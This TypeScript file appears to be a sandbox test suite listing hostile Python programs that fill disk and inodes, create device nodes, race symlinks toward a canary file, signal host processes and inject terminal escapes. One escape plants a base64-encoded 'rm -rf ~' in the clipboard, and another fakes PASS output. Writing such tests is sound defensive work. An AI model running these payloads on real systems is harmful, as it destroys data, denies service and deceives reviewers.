import type { HostileProgram } from "./hostile-program.ts";
import { pythonAttacks } from "./python-attack.ts";

const files = pythonAttacks("files", [
  {
    name: "files-one-large",
    goal: "the host's disk, by one file that grows",
    exhausts: "files",
    body: `
with open("large", "wb") as file:
    for _ in range(2_000):
        file.write(bytes(2 ** 20))`,
  },
  {
    name: "files-many",
    goal: "the host's inodes, by 300,000 empty files",
    exhausts: "files",
    body: `
for index in range(300_000):
    open("f%d" % index, "w").close()`,
  },
  {
    name: "files-sparse",
    goal: "the host's copy of a file that claims to be 1 TiB",
    exhausts: "files",
    body: `
import os
os.truncate(os.open("sparse", os.O_CREAT | os.O_RDWR), 2 ** 40) if hasattr(os, "truncate") else None
open("sparse", "ab").truncate(2 ** 40)`,
  },
  {
    name: "files-everywhere",
    goal: "disk or memory by files in every folder that can be written",
    exhausts: "files",
    body: `
import os
block = bytes(2 ** 20)
full = 0
for folder in ("/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", "/home", "/"):
    try:
        with open(folder + "/large", "wb") as file:
            for _ in range(1_000):
                file.write(block)
        said.append(folder)
    except OSError as error:
        full += 1
raise OSError("at most one was left open: %s" % said) if len(said) == 0 else MemoryError("in memory only")`,
  },
  {
    name: "files-deep-folders",
    goal: "a walk of the host that never ends, by 20,000 nested folders",
    exhausts: "files",
    body: `
import os
for _ in range(20_000):
    os.mkdir("d")
    os.chdir("d")
open("bottom", "w").close()`,
  },
  {
    name: "files-fifo",
    goal: "a host that waits for ever, on a pipe in the work folder",
    body: `
import os
attempt(lambda: os.mkfifo("pipe"))
attempt(lambda: os.mknod("node"))
attempt(lambda: __import__("socket").socket(__import__("socket").AF_UNIX).bind("socket"))`,
  },
  {
    name: "files-devices",
    goal: "a device of the machine, by a node in the work folder",
    body: `
import os, stat
for name, kind, major, minor in (("mem", stat.S_IFCHR, 1, 1), ("disk", stat.S_IFBLK, 8, 0), ("disk2", stat.S_IFBLK, 259, 0)):
    def make():
        os.mknod(name, kind | 0o666, os.makedev(major, minor))
        said.append(open(name, "rb").read(16))
        if not hasattr(__import__("sys"), "_emscripten_info"):
            reached()
    attempt(make)`,
  },
  {
    name: "files-odd-names",
    goal: "a file outside, by a name that the host copies out as it stands",
    body: `
import os
names = ["..", "a\\\\..\\\\..\\\\evil", "C:evil", "x" * 255, "\\n", " ", "-rf", "\\u202etxt.exe", "con", "nul.txt", "\\udc80", "a:b"]
for name in names:
    attempt(lambda: open(name, "w").close())
attempt(lambda: os.makedirs("e/" * 500))
attempt(lambda: open(b"\\xff\\xfe", "w").close())`,
  },
  {
    name: "files-changing",
    goal: "another file than the one the host has checked",
    body: `
import os, threading
open("result.txt", "w").write("plain")
def swap():
    for _ in range(2_000):
        try:
            os.unlink("result.txt")
            os.symlink(world["canaryPath"], "result.txt")
        except OSError:
            pass
attempt(lambda: threading.Thread(target=swap, daemon=True).start())
swap()`,
  },
  {
    name: "files-open-descriptors",
    goal: "all descriptors of the machine",
    body: `
import os
kept = globals()["kept"] = []
for _ in range(5_000):
    kept.append(os.open("/dev/null", os.O_RDONLY))
reached()`,
  },
]);

const signals = pythonAttacks("signal", [
  {
    name: "signal-host",
    goal: "a signal at the host",
    reachesBare: true,
    body: `
import os, signal
for number in (signal.SIGUSR2, signal.SIGHUP, signal.SIGALRM):
    attempt(lambda: os.kill(world["hostPid"], number))`,
  },
  {
    name: "signal-victim",
    goal: "an end for a process of the host",
    reachesBare: true,
    body: `
import os, signal
os.kill(world["victimPid"], signal.SIGKILL)`,
  },
  {
    name: "signal-everybody",
    goal: "a signal at all processes at once, or at the group",
    body: `
import os, signal
signal.signal(signal.SIGUSR2, signal.SIG_IGN)
attempt(lambda: os.kill(-1, signal.SIGUSR2))
attempt(lambda: os.kill(0, signal.SIGUSR2))
attempt(lambda: os.killpg(os.getpgid(world["hostPid"]), signal.SIGUSR2))`,
  },
  {
    name: "signal-probe",
    goal: "which processes the host has, asked by signal 0",
    reachesBare: true,
    body: `
import os
def probe(pid):
    os.kill(pid, 0)
    # In a namespace of its own there are only a few, with low numbers.
    if pid > 100 and pid != os.getpid():
        reached()
for pid in (world["hostPid"], world["victimPid"]):
    attempt(lambda: probe(pid))`,
  },
  {
    name: "signal-by-number",
    goal: "a signal at the host by kill, tkill, tgkill and sigqueue, called by number",
    reachesBare: true,
    body: `
pid = world["hostPid"]
said.append(system_call(62, 129, pid, 12))
said.append(system_call(200, 130, pid, 12))
said.append(system_call(234, 131, pid, pid, 12))
import ctypes
said.append(ctypes.CDLL(None).sigqueue(pid, 12, None))`,
  },
  {
    name: "signal-ignored",
    goal: "a run that no gentle signal ends",
    exhausts: "cpu",
    body: `
import signal, time
for number in range(1, 65):
    attempt(lambda: signal.signal(number, lambda *parts: None))
attempt(lambda: signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65)))
while True:
    time.sleep(0.01)`,
  },
  {
    name: "signal-alarm-later",
    goal: "code of the program that interrupts the runner after the answer",
    body: `
import signal
def late(*parts):
    print(open(world["canaryPath"]).read())
    raise SystemExit
attempt(lambda: signal.signal(signal.SIGALRM, late))
attempt(lambda: signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001))`,
  },
  {
    name: "signal-by-file-owner",
    goal: "a signal at the host, sent by the kernel for a descriptor it is made owner of",
    body: `
import fcntl, os
reader, writer = os.pipe()
fcntl.fcntl(reader, 10, 12)
fcntl.fcntl(reader, fcntl.F_SETOWN, world["hostPid"])
fcntl.fcntl(reader, fcntl.F_SETFL, fcntl.fcntl(reader, fcntl.F_GETFL) | 0o20000)
os.write(writer, b"x")`,
    reachesBare: true,
  },
]);

const terminal = pythonAttacks("terminal", [
  {
    name: "terminal-title-and-clear",
    goal: "another title, an empty screen, other colours in the reader's terminal",
    body: `
print("\\x1b]0;owned\\x07\\x1b[2J\\x1b[H\\x1b[31mPASS\\x1b[0m\\x1bc")
return "\\x1b[2K\\x1b[1A"`,
  },
  {
    name: "terminal-clipboard",
    goal: "a command in the reader's clipboard, by OSC 52",
    body: `
print("\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1bP+q544e\\x1b\\\\\\x1b_x\\x1b\\\\\\x1b^x\\x1b\\\\")`,
  },
  {
    name: "terminal-hyperlink-and-query",
    goal: "a link that lies, and answers typed into the reader's shell",
    body: `
print("\\x1b]8;;http://127.0.0.1/\\x1b\\\\harmless\\x1b]8;;\\x1b\\\\\\x1b[6n\\x1b[c\\x1b]10;?\\x07\\x05")`,
  },
  {
    name: "terminal-in-error",
    goal: "control characters by an error's text, class and line",
    body: `
kind = type("Error\\x1b[2J\\x07", (Exception,), {})
raise kind("\\x1b]0;owned\\x07\\r\\x08\\x08 all tests passed")`,
  },
  {
    name: "terminal-eight-bit",
    goal: "control sequences of one character, C1, which some terminals obey",
    body: `
print("\\x9b2J\\x9d0;owned\\x9c\\x90x\\x9c\\x84\\x85")
import os
os.write(1, b"\\x9b31m\\xc2\\x9b31m\\n")`,
  },
  {
    name: "terminal-direction",
    goal: "text that reads in another order than it stands",
    body: `
print("access = '\\u202euser\\u2066 // only admin\\u2069 \\u2066'; \\u200e\\u200f\\u2028\\u2029")
return {"\\u202ekey": "\\u2067value\\u2069"}`,
  },
  {
    name: "terminal-in-file-name",
    goal: "control characters by the name and text of a file that is copied out",
    body: `
attempt(lambda: open("\\x1b]0;owned\\x07.txt", "w").write("\\x1b[2J"))
attempt(lambda: open("line\\nbreak\\r.txt", "w").write("x"))`,
  },
  {
    name: "terminal-overprint",
    goal: "a verdict painted over what was said before",
    body: `
print("failed\\rPASSED\\x08\\x08\\x7f\\x00\\x0e\\x0f\\x0b\\x0c")
raise AssertionError("wrong\\r\\x1b[Apassed")`,
  },
]);

export const pythonLeftovers: readonly HostileProgram[] = [...files, ...signals, ...terminal];
